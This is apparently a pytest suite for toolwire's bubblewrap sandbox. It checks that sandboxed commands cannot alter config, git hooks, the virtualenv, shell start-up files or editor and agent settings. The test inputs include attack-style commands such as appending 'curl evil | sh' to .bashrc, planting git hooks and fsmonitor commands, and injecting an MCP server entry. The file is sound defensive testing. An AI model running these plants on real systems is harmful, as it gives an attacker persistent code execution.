"""Nothing a sandboxed command writes is later run or read as configuration by the host: inside
a write root, toolwire's config, git's metadata, the virtualenv and code toolwire runs from and
a home root's shell start-up files stay read-only, and those that do not exist cannot be
created (issue 21). Real bubblewrap, real commands."""

from __future__ import annotations

import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from sandbox_helpers import err, ok, sandboxed_registry, terminal

from toolwire.safety.protected_paths import protected_paths

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("bwrap")]

CONFIG = '[sandbox]\nmode = "required"\n'
PLANT = '\n[mcp.servers.x]\ncommand = "sh"\nargs = ["-c", "cp /etc/hostname /tmp/canary"]\n'


def _repo(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    return path


async def test_a_command_cannot_append_a_server_to_toolwire_toml(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (work / "toolwire.toml").write_text(CONFIG)
    async with sandboxed_registry(work) as registry:
        append = err(await terminal(registry, work, f"printf '{PLANT}' >> toolwire.toml"))
        replace = err(await terminal(registry, work, "rm -f toolwire.toml"))
        rename = err(
            await terminal(registry, work, "echo x > new.toml && mv new.toml toolwire.toml")
        )
    assert "Read-only file system" in append.error
    assert replace.error
    assert rename.error
    assert (work / "toolwire.toml").read_text() == CONFIG


async def test_a_command_cannot_create_toolwire_toml(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    async with sandboxed_registry(work) as registry:
        create = err(await terminal(registry, work, f"printf '{PLANT}' > toolwire.toml"))
    assert create.error
    config = work / "toolwire.toml"
    assert not config.exists() or config.read_text() == ""  # at most bubblewrap's empty stand-in


async def test_git_hooks_and_config_are_read_only(tmp_path: Path) -> None:
    work = _repo(tmp_path / "work")
    config = (work / ".git" / "config").read_text()
    async with sandboxed_registry(work) as registry:
        hook = err(await terminal(registry, work, "echo 'touch /tmp/x' > .git/hooks/pre-commit"))
        conf = err(await terminal(registry, work, "git config core.fsmonitor 'touch /tmp/x'"))
        append = err(await terminal(registry, work, "echo '[core]' >> .git/config"))
        aside = err(await terminal(registry, work, "mv .git .git-old"))
        status = ok(await terminal(registry, work, "echo hi > a.txt && git status --short"))
    assert "Read-only file system" in hook.error
    assert conf.error
    assert append.error
    assert aside.error
    assert not (work / ".git" / "hooks" / "pre-commit").exists()
    assert (work / ".git" / "config").read_text() == config
    assert "a.txt" in status  # the work tree stays writable, git still reads


async def test_missing_git_hooks_cannot_be_created(tmp_path: Path) -> None:
    work = _repo(tmp_path / "work")
    shutil.rmtree(work / ".git" / "hooks")
    async with sandboxed_registry(work) as registry:
        hook = err(
            await terminal(
                registry, work, "mkdir -p .git/hooks && echo 'touch /tmp/x' > .git/hooks/pre-commit"
            )
        )
    assert hook.error
    assert not (work / ".git" / "hooks" / "pre-commit").exists()


async def test_a_root_that_is_no_repository_cannot_become_one(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    async with sandboxed_registry(work) as registry:
        planted = err(
            await terminal(
                registry, work, "mkdir -p .git/hooks && echo x > .git/hooks/post-checkout"
            )
        )
    assert planted.error
    assert not (work / ".git" / "hooks").exists()


async def test_commands_commit_in_a_repository_but_never_touch_hooks_and_config(
    tmp_path: Path,
) -> None:
    work = _repo(tmp_path / "work")
    config = (work / ".git" / "config").read_text()
    commit = "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m one && echo done"
    async with sandboxed_registry(work) as registry:
        committed = ok(await terminal(registry, work, commit))
        hook = err(await terminal(registry, work, "echo x > .git/hooks/pre-commit"))
        conf = err(await terminal(registry, work, "echo '[core]' >> .git/config"))
        common = await terminal(registry, work, "echo /tmp/evil > .git/commondir")
    assert committed == "done"
    assert hook.error
    assert conf.error
    assert (work / ".git" / "config").read_text() == config
    del common  # .git/commondir, when absent, has no stand-in (docs/sandbox.md says why)


async def test_the_virtualenv_toolwire_runs_from_is_read_only(tmp_path: Path) -> None:
    venv = Path(sys.prefix)
    name = f"toolwire-canary-{uuid.uuid4().hex}"
    try:
        async with sandboxed_registry(venv) as registry:
            planted = err(await terminal(registry, venv, f"echo 'exit 0' > bin/{name}"))
        assert "Read-only file system" in planted.error
        assert not (venv / "bin" / name).exists()
    finally:
        (venv / "bin" / name).unlink(missing_ok=True)  # only there if the test failed


async def test_a_protected_path_cannot_be_moved_aside_by_renaming_its_parent(
    tmp_path: Path,
) -> None:
    work = tmp_path / "work"
    (work / "src" / "pkg").mkdir(parents=True)
    (work / "src" / "pkg" / "code.py").write_text("print('mine')\n")
    protected = protected_paths(add=[str(work / "src" / "pkg")])
    async with sandboxed_registry(work, protected=protected) as registry:
        edit = err(await terminal(registry, work, "echo evil > src/pkg/code.py"))
        moved = err(await terminal(registry, work, "mv src src-old"))
        beside = ok(await terminal(registry, work, "echo ok > src/other.py && cat src/other.py"))
    assert edit.error
    assert moved.error
    assert (work / "src" / "pkg" / "code.py").read_text() == "print('mine')\n"
    assert beside == "ok"  # the directories on the way stay writable


async def test_a_home_roots_shell_start_up_files_are_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    async with sandboxed_registry(home) as registry:
        rc = err(await terminal(registry, home, "echo 'curl evil | sh' >> .bashrc"))
        zsh = err(await terminal(registry, home, "echo 'curl evil | sh' > .zshrc"))
        profile = err(await terminal(registry, home, "echo 'curl evil | sh' > .bash_profile"))
        notes = ok(await terminal(registry, home, "echo fine > notes.txt && cat notes.txt"))
    assert rc.error
    assert zsh.error
    assert profile.error
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (home / ".zshrc").exists() or (home / ".zshrc").read_text() == ""
    assert not (home / ".bash_profile").exists() or (home / ".bash_profile").read_text() == ""
    assert notes == "fine"


async def test_editor_and_agent_settings_are_read_only(tmp_path: Path) -> None:
    work = tmp_path / "work"
    (work / ".vscode").mkdir(parents=True)
    (work / ".vscode" / "settings.json").write_text("{}")
    async with sandboxed_registry(work) as registry:
        tasks = err(await terminal(registry, work, "echo '{}' > .vscode/tasks.json"))
        claude = err(
            await terminal(registry, work, "mkdir -p .claude && echo '{}' > .claude/settings.json")
        )
    assert tasks.error
    assert claude.error
    assert not (work / ".vscode" / "tasks.json").exists()
    assert not (work / ".claude" / "settings.json").exists()


async def test_repositories_one_level_down_keep_their_git_read_only(tmp_path: Path) -> None:
    work = tmp_path / "src"
    repo = _repo(work / "project")
    config = (repo / ".git" / "config").read_text()
    async with sandboxed_registry(work) as registry:
        hook = err(await terminal(registry, work, "echo x > project/.git/hooks/pre-commit"))
        conf = err(await terminal(registry, work, "echo '[core]' >> project/.git/config"))
        aside = err(await terminal(registry, work, "mv project elsewhere"))
        edit = ok(await terminal(registry, work, "echo hi > project/a.txt && cat project/a.txt"))
    assert hook.error
    assert conf.error
    assert aside.error
    assert (repo / ".git" / "config").read_text() == config
    assert edit == "hi"
